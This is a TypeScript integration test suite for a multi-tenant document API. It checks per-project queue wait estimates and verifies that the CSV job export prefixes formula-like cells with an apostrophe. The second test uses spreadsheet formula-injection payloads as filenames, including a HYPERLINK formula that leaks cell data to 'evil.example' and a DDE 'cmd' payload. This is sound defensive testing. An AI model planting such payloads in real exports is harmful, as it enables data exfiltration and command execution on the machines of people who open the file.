import { startTestApp, type TestApp } from '../../support/app';
import { setupDocumentProject, type DocumentProject } from '../../support/documents';

/**
 * The worker stops once the projects exist: every accepted job stays queued, so queue positions are exact.
 * Both points are about what one tenant's data does to another reader: a spreadsheet opening an
 * export, and a second project reading its wait estimate.
 */
describe('job exports and wait estimates', () => {
  let app: TestApp;
  let a: DocumentProject;
  let b: DocumentProject;
  beforeAll(async () => {
    app = await startTestApp({ env: { RENDER_POOL_SIZE: '2' } });
    a = await setupDocumentProject(app);
    b = await setupDocumentProject(app);
    // Sign-up e-mails needed the worker; from here on nothing renders.
    await app.stopWorker();
  });
  afterAll(() => app.close());

  const generate = async (p: DocumentProject, body: Record<string, unknown> = {}) => {
    const res = await app.request('POST', '/api/documents/generate', { token: p.apiKey, body: { templateId: p.templateId, format: 'excel', variables: { customer: 'C', items: [] }, ...body } });
    if (res.status !== 201) throw new Error(`generate: ${res.status} ${res.text}`);
    return res.body as { jobId: string; estimatedWaitSeconds: number };
  };
  /** Queued jobs written straight into the table: another tenant's backlog. */
  const backlog = (p: DocumentProject, n: number) =>
    app.services.db.query(
      `INSERT INTO document_jobs (id, project_id, template_id, template_version, format, status, variables, billing)
       SELECT gen_random_uuid(), $1, $2, 1, 'pdf', 'queued', '{}'::jsonb, 'free' FROM generate_series(1, $3)`,
      [p.projectId, p.templateId, n],
    );
  // Without completed jobs the estimate assumes 1.5 s a document, over RENDER_POOL_SIZE (2) slots.
  const expected = (ahead: number) => Math.max(1, Math.ceil(((ahead + 1) * 1500) / 2 / 1000));

  it('estimates a wait from the caller project\'s queue only, not from other tenants\' load', async () => {
    const first = await generate(a);
    expect(first.estimatedWaitSeconds).toBe(expected(0));

    await backlog(b, 300);
    // Project A's one job is ahead of its next one; B's 300 are none of A's business.
    const second = await generate(a);
    expect(second.estimatedWaitSeconds).toBe(expected(1));

    // B's own backlog does count for B, and A's own backlog for A.
    expect((await generate(b)).estimatedWaitSeconds).toBe(expected(300));
    await backlog(a, 20);
    expect((await generate(a)).estimatedWaitSeconds).toBe(expected(22));
  });

  it('exports CSV cells that a spreadsheet would run as formulas as text (leading apostrophe)', async () => {
    const hostile = ['=HYPERLINK("evil.example?"&A1,"Click")', '+1+cmd|\' -c calc\'!A0', '-2+3', '@SUM(1,2)'];
    for (const filename of hostile) await generate(a, { filename });
    await generate(a, { filename: 'plain-name', metadata: { note: '=1+1' } });
    // Tabs and carriage returns cannot be sent as filenames; a job's error message can carry them.
    await app.services.db.query(
      `INSERT INTO document_jobs (id, project_id, template_id, template_version, format, status, variables, billing, error_message, completed_at)
       VALUES (gen_random_uuid(), $1, $2, 1, 'pdf', 'failed', '{}'::jsonb, 'free', E'\\t=1+1', now()),
              (gen_random_uuid(), $1, $2, 1, 'pdf', 'failed', '{}'::jsonb, 'free', E'\\r@SUM(1)', now())`,
      [a.projectId, a.templateId],
    );

    const csv = await app.request('GET', '/api/documents/jobs/export', { token: a.apiKey });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const header = csv.text.split('\n')[0];
    expect(header).toBe('jobId,status,format,templateId,templateVersion,batchId,filename,errorCode,errorMessage,metadata,createdAt,completedAt');

    // Each hostile filename appears once, prefixed, and never bare at the start of a cell.
    expect(csv.text).toContain(`,"'=HYPERLINK(""evil.example?""&A1,""Click"")",`);
    expect(csv.text).toContain(`,'+1+cmd|' -c calc'!A0,`);
    expect(csv.text).toContain(`,'-2+3,`);
    expect(csv.text).toMatch(/,"?'@SUM\(1,2\)"?,/);
    expect(csv.text).toMatch(/,"?'\t=1\+1"?,/);
    expect(csv.text).toMatch(/,"?'\r@SUM\(1\)"?,/);
    for (const bare of ['=HYPERLINK', '+1+cmd', '-2+3', '@SUM', '\t=1+1', '\r@SUM']) {
      expect(csv.text).not.toMatch(new RegExp(`(\n|,|")${bare.replace(/[+()|\\]/g, '\\$&')}`));
    }
    // Ordinary cells are untouched: names, dates, and metadata JSON (its `=` is inside, not first).
    expect(csv.text).toContain(',plain-name,');
    expect(csv.text).toContain('"{""note"":""=1+1""}"');
    expect(csv.text).toMatch(/,\d{4}-\d\d-\d\dT[\d:.]+Z,/);

    // The JSON export is data, not a spreadsheet: values stay exactly as given.
    const json = JSON.parse((await app.request('GET', '/api/documents/jobs/export?format=json', { token: a.apiKey })).text);
    expect(json.map((r: any) => r.filename)).toEqual(expect.arrayContaining(hostile));
  });
});
